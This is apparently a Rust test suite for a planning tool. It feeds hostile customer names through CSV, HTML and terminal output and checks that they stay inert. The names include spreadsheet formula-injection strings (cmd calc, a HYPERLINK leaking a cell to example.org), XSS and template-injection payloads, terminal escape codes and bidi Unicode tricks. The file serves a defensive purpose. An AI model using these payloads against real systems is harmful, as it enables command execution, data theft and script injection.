//! Names that mean something to a spreadsheet, a browser or a terminal: they stay names, and read back as they were.

use std::fs;

use axplan::diagnostics::letters::steers;
use serde_json::Value;

use super::place::{LIST, Place, SMALL, listed};

/// Names as attackers write them, each fit for a customer list.
const HOSTILE: [&str; 12] = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"here\")",
    "＝1+1",
    "'=1+1",
    "\" onmouseover=\"alert(1)",
    "'><svg/onload=alert(1)>",
    "<!--<script>",
    "]]></style>{{7*7}}${7*7}",
    "javascript:alert(1)",
];

/// A list of as many customers, with a hostile name for each id, name and owner.
fn list() -> String {
    let mut table = csv::Writer::from_writer(Vec::new());
    table
        .write_record(["Account ID", "Account Name", "ARR", "CS Segment", "CSM"])
        .unwrap();
    for (i, name) in HOSTILE.iter().enumerate() {
        let arr = (1_000 * (i + 10)).to_string();
        table.write_record([name, name, arr.as_str(), name, name]).unwrap();
    }
    String::from_utf8(table.into_inner().unwrap()).unwrap()
}

/// A run of them, in plans, segments and teams with names that scenarios allow.
fn place() -> Place {
    let scenario = listed("customers.csv")
        .replace("A small move", "=1+1")
        .replace("plans.ax]", "plans.'=ax']")
        .replace("segments.low", "segments.'@low'")
        .replace("team = \"desk\"", "team = '-desk'")
        .replace("teams.desk", "teams.'-desk'");
    let place = Place::new()
        .with("customers.csv", list())
        .with("hostile.toml", scenario);
    place.done(&[
        "run",
        "hostile.toml",
        "--replications",
        "40",
        "--quiet",
        "--report",
        "--out",
        "out",
    ]);
    place
}

/// The cells of every CSV table of the results.
fn cells(place: &Place) -> Vec<String> {
    let mut cells = Vec::new();
    for (name, bytes) in place
        .files("out")
        .into_iter()
        .filter(|(name, _)| name.ends_with(".csv"))
    {
        let mut table = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        for row in table.records() {
            let row = row.unwrap_or_else(|error| panic!("{name}: {error}"));
            cells.extend(row.iter().map(str::to_owned));
        }
    }
    cells
}

#[test]
fn no_cell_is_a_formula() {
    let place = place();
    let cells = cells(&place);
    assert!(cells.len() > 5_000, "{}", cells.len());
    for cell in &cells {
        let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
        assert!(!begins || cell.parse::<f64>().is_ok_and(f64::is_finite), "{cell:?}");
    }
    for expected in ["'=cmd|' /C calc'!A0", "'=ax", "''=1+1", "javascript:alert(1)"] {
        assert!(cells.iter().any(|cell| cell == expected), "{expected}");
    }
    // Differences below 0 are numbers all the same.
    assert!(
        cells
            .iter()
            .any(|cell| cell.parse::<f64>().is_ok_and(|number| number < 0.0))
    );
}

#[test]
fn names_read_back_as_they_were() {
    let place = place();
    for name in HOSTILE {
        let customer = format!("--customer={name}");
        let told = place.done(&["explain", "out", "--replication", "0", &customer, "--format", "json"]);
        let told: Value = serde_json::from_str(&told).unwrap();
        assert!(told.to_string().contains(&Value::from(name).to_string()), "{name}");
    }
    let told = place.done(&["diff", "out", "out", "--format", "json"]);
    let told: Value = serde_json::from_str(&told).unwrap();
    let plans: Vec<&str> = told["answers"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|row| row["plan"].as_str())
        .collect();
    assert!(plans.contains(&"=ax") && !plans.contains(&"'=ax"), "{plans:?}");
    assert_eq!(told["inputs"], Value::Array(Vec::new()));
}

#[test]
fn the_page_shows_them_and_obeys_none() {
    let place = place();
    let page = fs::read_to_string(place.path("out/report.html")).unwrap();
    let (own, library) = page.split_once("<script nonce=").unwrap();
    assert_eq!(
        page.matches("<script").count(),
        3,
        "the data and the two scripts of the page"
    );
    assert_eq!(page.matches("</script").count(), 3);
    assert!(!library.contains("<svg/onload"));
    let (markup, data) = own.split_once("id=\"data\">").unwrap();
    for harmful in [
        "<svg",
        "<!--<",
        "onmouseover=\"",
        "]]></style",
        "href=\"javascript",
        "'><",
    ] {
        assert!(!markup.contains(harmful), "{harmful}");
    }
    let data = data.split_once("</script>").unwrap().0;
    assert!(!data.contains('<'));
    let data: Value = serde_json::from_str(data).unwrap();
    let rows = data["customers"]["rows"].as_array().unwrap();
    for name in HOSTILE {
        assert!(rows.iter().any(|row| row[1] == name), "{name}");
    }
    assert!(page.contains("=ax") && !page.contains("'=ax"));
}

/// A name cannot move the cursor or clear the screen.
#[test]
fn no_name_speaks_to_the_terminal() {
    let hostile = |name: &str| LIST.replace("Ann", &format!("\u{1b}[2J{name}\u{7}\u{9b}31m"));
    let place = Place::new().with("customers.csv", hostile("Ann"));
    place.write("listed.toml", place.done(&["new", "--from", "customers.csv"]));
    for arguments in [
        &["check", "listed.toml"][..],
        &["load", "listed.toml", "--replications", "4"],
        &["explain", "listed.toml", "--replication", "0", "--customer", "A1"],
        &["run", "listed.toml", "--replications", "4", "--out", "out"],
        &["new", "--from", "customers.csv"],
    ] {
        let told = place.axplan(arguments);
        assert_eq!(told.code, Some(0), "{arguments:?}\n{}", told.err);
        let said = told.out + &told.err;
        let controls: String = said
            .chars()
            .filter(|letter| steers(*letter) && *letter != '\n')
            .collect();
        assert_eq!(controls, "", "{arguments:?}");
    }
    // Nor can what is said of a list that is wrong.
    place.write("customers.csv", hostile("Ann").replace("$12,000", "\u{1b}[31mmuch"));
    let told = place.axplan(&["check", "listed.toml"]);
    assert_eq!(told.code, Some(2));
    assert!(
        !told.err.contains('\u{1b}') && !told.err.contains('\u{9b}'),
        "{:?}",
        told.err
    );
}

/// What a command says of an input that it refuses.
fn refused(place: &Place, arguments: &[&str]) -> String {
    let told = place.axplan(arguments);
    assert_eq!(told.code, Some(2), "{arguments:?}\n{}", told.err);
    assert!(
        !told.err.contains(|letter: char| letter != '\n' && steers(letter)),
        "{:?}",
        told.err
    );
    told.err
}

/// A name cannot turn the numbers beside it around; letters that join others are needed.
#[test]
fn no_name_turns_anything_around() {
    let place = Place::new()
        .with("turned.toml", SMALL.replace("plans.ax]", "plans.'\u{202e}ax']"))
        .with("listed.toml", listed("customers.csv"));
    let said = refused(&place, &["check", "turned.toml"]);
    assert!(said.contains("holds an invisible letter (U+202E)"), "{said}");

    place.write("customers.csv", LIST.replace("A3,", "A\u{2066}3,"));
    let said = refused(&place, &["check", "listed.toml"]);
    assert!(
        said.contains("`A 3` in `Account ID` holds an invisible letter (U+2066)"),
        "{said}"
    );
    assert!(said.contains("customers.csv:4:1"), "{said}");

    // Around a name they say nothing.
    let around = LIST
        .replace("A3,", "\u{2066}A3\u{2069},")
        .replace("Ann", "👩\u{200d}💻 می\u{200c}خواهم");
    place.write("customers.csv", around.replace("CSM", "C\u{200b}SM"));
    place.done(&["check", "listed.toml"]);
    place.done(&["explain", "listed.toml", "--replication", "0", "--customer", "A3"]);
}

/// `check` would refuse what `new` writes, since that has the list's path.
#[test]
fn no_list_has_a_path_that_no_scenario_may_hold() {
    let place = Place::new().with("cust\u{202e}omers.csv", LIST);
    for (path, holds) in [
        (
            "cust\u{202e}omers.csv",
            "`cust·omers.csv` holds an invisible letter (U+202E)",
        ),
        (
            "fo\u{200b}lder/customers.csv",
            "`fo·lder/customers.csv` holds an invisible letter (U+200B)",
        ),
    ] {
        let said = refused(&place, &["new", "--from", path]);
        assert!(said.contains(holds) && said.contains("rename file or folder"), "{said}");
    }
}

#[test]
fn no_folder_turns_anything_around() {
    let place = Place::with_small();
    let told = place.axplan(&[
        "run",
        "small.toml",
        "--replications",
        "4",
        "--out",
        "out\u{202e}\u{1b}[2J",
    ]);
    assert_eq!(told.code, Some(0), "{}", told.err);
    assert!(told.err.contains("Results in out··[2J, "), "{:?}", told.err);
}

/// Every row of results repeats names.
#[test]
fn names_are_no_pages() {
    let (most, more) = ("n".repeat(200), "n".repeat(201));
    let scenario = |name: &str| SMALL.replace("desk", name);
    let list = |name: &str| LIST.replace("Tech touch", name);
    let place = Place::new()
        .with("most.toml", scenario(&most))
        .with("more.toml", scenario(&more))
        .with("listed.toml", listed("customers.csv"));
    place.done(&["check", "most.toml"]);
    let name = format!("name={more}");
    let said = refused(&place, &["check", "most.toml", "--set", &name]);
    assert!(said.contains("`name` has 201 letters; 200 is the most"), "{said}");
    let said = refused(&place, &["check", "more.toml"]);
    assert!(said.contains("it has 201 letters; 200 is the most"), "{said}");

    // A plan at equal cost is called after two others.
    let (one, other) = ("a".repeat(200), "b".repeat(200));
    let plans = SMALL.replace("plans.revenue]", &format!("plans.{one}]"));
    let plans = plans.replace("plans.ax]", &format!("plans.{other}]"));
    place.write("plans.toml", plans.replace("headcount = 0.8", "headcount = 1.8"));
    let told = place.done(&["run", "plans.toml", "--quiet", "--out", "out"]);
    let called: String = told.split_whitespace().collect();
    assert!(called.contains(&format!("`{one}atthecostof{other}`")), "{told}");

    place.write("customers.csv", list(&most));
    place.done(&["check", "listed.toml"]);
    place.write("customers.csv", list(&more));
    let said = refused(&place, &["check", "listed.toml"]);
    assert!(
        said.contains("in `CS Segment` has 201 letters; 200 is the most"),
        "{said}"
    );
    assert!(said.contains("customers.csv:2:"), "{said}");
}
